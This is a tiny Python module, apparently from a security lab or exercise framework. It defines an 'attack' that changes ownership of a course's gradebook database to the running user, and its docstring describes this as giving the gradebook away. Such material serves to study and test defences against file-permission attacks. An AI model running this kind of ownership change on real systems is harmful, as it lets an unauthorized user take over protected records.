"""Gives the gradebook away."""

import os

from lib.attack import doubler
from lib.target import COURSE


def attack():
    return os.chown(f"{COURSE}/gradebook.db", os.getuid(), os.getgid())


Doubler = doubler(attack)
